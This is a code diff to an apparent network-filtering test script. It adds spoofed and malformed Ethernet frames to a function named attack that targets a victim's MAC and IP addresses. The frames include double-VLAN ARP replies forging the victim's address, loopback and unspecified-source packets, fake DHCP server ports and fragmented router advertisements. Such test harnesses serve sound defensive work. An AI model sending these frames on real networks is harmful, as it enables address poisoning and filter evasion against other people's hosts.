@@ -79,8 +79,8 @@ def checksum(data):
     return ~total & 0xffff
 
 
-def udp(data):
-    return struct.pack('!HHHH', 9, 9, 8 + len(data), 0) + data
+def udp(data, source=9):
+    return struct.pack('!HHHH', source, 9, 8 + len(data), 0) + data
 
 
 def ip4(source, data, protocol=17, destination='255.255.255.255'):
@@ -152,6 +152,16 @@ def attack(interface, victim_mac, victim4, victim6):
         'bad-fragment': (mac, 0x86dd, lambda m: ip6(own6, b'\x3a\0\0\0\0\0\0\0' + neighbour(136, victim6, mac) + m, 44)),
         'bad-unspecified': (mac, 0x86dd, lambda m: ip6('::', neighbour(136, victim6, mac) + m, 58)),
         'bad-vlan': (mac, 0x8100, lambda m: b'\0\5\x08\0' + ip4(own4, udp(m))),
+        'bad-vlan-service': (mac, 0x88a8, lambda m: b'\0\5\x08\0' + ip4(own4, udp(m))),
+        'bad-vlan-twice': (mac, 0x8100, lambda m: b'\0\0\x81\0\0\5\x08\x06' + arp(2, mac, victim4, victim4) + m),
+        'bad-zero4': (mac, 0x800, lambda m: ip4('0.0.0.0', udp(m))),
+        'bad-mapped6': (mac, 0x86dd, lambda m: ip6('::ffff:' + victim4, udp(m))),
+        'bad-loopback6': (mac, 0x86dd, lambda m: ip6('::1', udp(m))),
+        'bad-dhcp4': (mac, 0x800, lambda m: ip4(own4, udp(m, 67))),
+        'bad-dhcp6': (mac, 0x86dd, lambda m: ip6(local, udp(m, 547))),
+        'bad-dhcp6-fragment': (mac, 0x86dd, lambda m: ip6(local, b'\x11\0\0\1\0\0\0\0' + udp(m, 547), 44)),
+        'bad-router-fragment': (mac, 0x86dd, lambda m: ip6(local, b'\x3a\0\0\1\0\0\0\0' + advertisement + m, 44)),
+        'bad-solicitation': (mac, 0x86dd, lambda m: ip6(local, struct.pack('!BBHI', 133, 0, 0, 0) + m, 58)),
         'bad-protocol': (mac, 0x88b5, lambda m: m),
     }
     for name, (source, kind, data) in frames.items():
